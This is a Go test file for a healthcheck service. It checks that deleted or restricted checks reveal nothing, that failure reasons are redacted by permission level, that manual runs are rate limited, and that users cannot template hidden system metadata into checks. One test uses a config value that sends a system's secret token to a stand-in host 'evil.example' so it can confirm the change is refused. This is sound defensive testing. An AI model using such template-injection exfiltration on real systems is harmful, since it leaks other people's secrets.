package healthcheck_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"countersign/internal/access"
	"countersign/internal/problem"
	"countersign/modules/catalog"
	"countersign/modules/healthcheck"
)

// What was granted on a check and kept it private goes with it. What it has found is not for everybody then.
func TestADeletedCheckTellsNobodyWhatItFound(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	shop := a.system(t, "Shop")
	c := a.check(t, door("Canary door", "example.org", object{"assignToSystemId": shop}))
	a.ran(t, c.ID, 3, "canary words")
	owners := a.team(t, "Owners")
	a.grant(t, healthcheck.ObjectType, c.ID, true, map[uuid.UUID]access.Level{owners: access.Own})
	a.member("owner", []uuid.UUID{owners}, catalog.SystemRead)
	a.Person("viewer", healthcheck.Read, healthcheck.StatusRead, healthcheck.DetailsRead, catalog.SystemRead)
	target := fmt.Sprintf("/api/healthcheck/targets/%d", a.planned(t, c.ID)["Shop/"].ID)
	paths := []string{target + "/runs", target + "/chart", target + "/period", target + "/runs/1"}
	for _, path := range paths {
		a.Do(t, "viewer", http.MethodGet, path, nil).Refused(t, problem.NotFound)
	}
	a.ok(t, a.Do(t, "owner", http.MethodDelete, at(checks, c.ID), nil))
	for _, path := range paths {
		a.Do(t, "viewer", http.MethodGet, path, nil).Refused(t, problem.NotFound)
	}
	for _, path := range []string{"/api/healthcheck/board", "/api/healthcheck/systems/" + shop.String(), "/api/healthcheck/systems/" + shop.String() + "/chart"} {
		require.NotContains(t, strings.ToLower(a.Do(t, "viewer", http.MethodGet, path, nil).Body), "canary", path)
	}
}

// Why a system is not well is for everybody who sees how it fares; what its targets answered, and where they are, is not.
func TestReasonsTellNoMoreThanOneMaySee(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	shop := a.system(t, "Shop", a.environment(t, "canary place", nil))
	c := a.check(t, door("Front", "example.org", object{"assignToSystemId": shop}))
	const found = `5 runs in a row failed: Expected words = closed, got "canary words: come in"`
	a.ran(t, c.ID, 3, found)
	a.Exec(t, `INSERT INTO check_system_states (system_id, status, since_ms, target, reason)
		SELECT system_id, 3, 1, id, '2 of 3 checks are unhealthy, first Front in canary place: ' || $2 || '.' FROM check_targets WHERE check_id = $1`, c.ID, found)
	a.Exec(t, `INSERT INTO check_transitions (target, system_id, at_ms, before, after, reason)
		SELECT id, system_id, (extract(epoch FROM now()) * 1000)::bigint - 60000, 1, 3, $2 FROM check_targets WHERE check_id = $1`, c.ID, found)
	a.Person("viewer", healthcheck.StatusRead, catalog.SystemRead)
	a.Person("reader", healthcheck.StatusRead, healthcheck.DetailsRead, catalog.SystemRead)
	a.Person("placed", healthcheck.StatusRead, catalog.SystemRead, catalog.EnvironmentRead)
	target := a.planned(t, c.ID)["Shop/canary place"].ID
	for _, path := range []string{
		"/api/healthcheck/board", "/api/healthcheck/board?status=unhealthy", "/api/healthcheck/systems/" + shop.String(),
		"/api/healthcheck/systems/" + shop.String() + "/chart", fmt.Sprintf("/api/healthcheck/targets/%d/chart", target),
	} {
		require.NotContains(t, a.Do(t, "viewer", http.MethodGet, path, nil).Body, "canary", path)
		require.Contains(t, a.Do(t, "viewer", http.MethodGet, path, nil).Body, "5 runs in a row failed", path)
		require.NotContains(t, a.Do(t, "placed", http.MethodGet, path, nil).Body, "canary words", path)
		reader := a.Do(t, "reader", http.MethodGet, path, nil).Body
		require.NotContains(t, reader, "canary place", path)
		require.Contains(t, reader, "canary words: come in", path)
		require.Contains(t, a.Do(t, "root", http.MethodGet, path, nil).Body, "canary words: come in", path)
	}
	require.Contains(
		t,
		a.Do(t, "viewer", http.MethodGet, "/api/healthcheck/board", nil).Body,
		"2 of 3 checks are unhealthy, first Front: 5 runs in a row failed.",
	)
	require.Contains(
		t,
		a.Do(t, "placed", http.MethodGet, "/api/healthcheck/board", nil).Body,
		"2 of 3 checks are unhealthy, first Front in canary place: 5 runs in a row failed.",
	)
}

// Runs at once are few in a minute for one person, over all checks, and what is too much begins nothing.
func TestRunsAtOnceAreBounded(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	a.Person("other", healthcheck.Read, healthcheck.Manage, catalog.SystemRead)
	shop, mail := a.system(t, "Shop"), a.system(t, "Mail")
	c, d := a.check(t, door("Front", "x", object{"assignToSystemId": shop})), a.check(t, door("Back", "x", object{"assignToSystemId": mail}))
	run := func(who string, check, system uuid.UUID) int {
		return a.Do(t, who, http.MethodPost, at(checks, check)+"/run-now", object{"systemId": system}).Status
	}
	for n := range 60 {
		if n%2 == 0 {
			require.Equal(t, http.StatusOK, run("root", c.ID, shop))
		} else {
			require.Equal(t, http.StatusOK, run("root", d.ID, mail))
		}
		a.Exec(t, `UPDATE held_places SET held_until = now() + interval '1 hour'`) // however long this takes
	}
	began, entries := len(a.asked), a.Count(t, `SELECT count(*) FROM ai_audit_entries`)
	require.Equal(t, 60, began)
	require.Equal(t, http.StatusTooManyRequests, run("root", c.ID, shop))
	require.Equal(t, http.StatusTooManyRequests, run("root", d.ID, mail))
	require.Equal(t, entries, a.Count(t, `SELECT count(*) FROM ai_audit_entries`))
	require.Len(t, a.asked, began)
	require.Equal(t, http.StatusOK, run("other", c.ID, shop))
	a.Exec(t, `UPDATE held_places SET held_until = now() - interval '1 second'`)
	require.Equal(t, http.StatusOK, run("root", c.ID, shop), "and a minute later there is room again")
}

// What runs is told about its system and environment, and can carry that away. Who writes it has to see them.
func TestWhoWritesACheckSeesWhatItIsTold(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	shop, hidden := a.system(t, "Shop"), a.system(t, "Canary vault")
	a.ok(t, a.Do(t, "root", http.MethodPatch, at(systemsPath, hidden), object{"metadata": object{"token": "canary"}}))
	plain, told := a.check(
		t,
		door("Plain", "x", object{"assignToSystemId": shop}),
	), a.check(
		t,
		door("Told", "{{ system.name }}", object{"assignToSystemId": shop}),
	)
	for _, c := range []uuid.UUID{plain.ID, told.ID} {
		a.assign(t, c, hidden, object{})
	}
	team := a.team(t, "Vault people")
	a.grant(t, "catalog.system", hidden, true, map[uuid.UUID]access.Level{team: access.Own})
	rules := []string{healthcheck.Read, healthcheck.Manage, catalog.SystemRead, catalog.EnvironmentRead}
	a.Person("outsider", rules...)
	a.member("insider", []uuid.UUID{team}, rules...)
	a.Person("placeless", healthcheck.Read, healthcheck.Manage, catalog.SystemRead)
	listening := []object{{"collectorId": "test-door.listen"}}
	for _, change := range []object{{"config": object{"host": "evil.example/{{ system.metadata.token }}"}}, {"collectors": listening}} {
		for _, c := range []uuid.UUID{plain.ID, told.ID} {
			answer := a.Do(t, "outsider", http.MethodPatch, at(checks, c), change)
			answer.Refused(t, problem.Forbidden)
			require.NotContains(t, strings.ToLower(answer.Body), "canary")
		}
	}
	a.ok(t, a.Do(t, "outsider", http.MethodPatch, at(checks, told.ID), object{"intervalSeconds": 30, "description": "Told"}))
	a.ok(t, a.Do(t, "outsider", http.MethodPatch, at(checks, plain.ID), object{"config": object{"host": "y"}}))
	a.ok(t, a.Do(t, "insider", http.MethodPatch, at(checks, told.ID), object{"config": object{"host": "{{ system.metadata.token }}"}}))
	a.ok(t, a.Do(t, "outsider", http.MethodPost, checks, door("Own", "{{ environment.token }}")))
	a.Do(t, "placeless", http.MethodPost, checks, door("Own too", "{{ environment.token }}")).Refused(t, problem.Forbidden)
	a.Do(t, "placeless", http.MethodPost, checks, door("Own too", "x", object{"collectors": listening})).Refused(t, problem.Forbidden)
	a.ok(t, a.Do(t, "placeless", http.MethodPost, checks, door("Own too", "{{ system.name }}")))
}
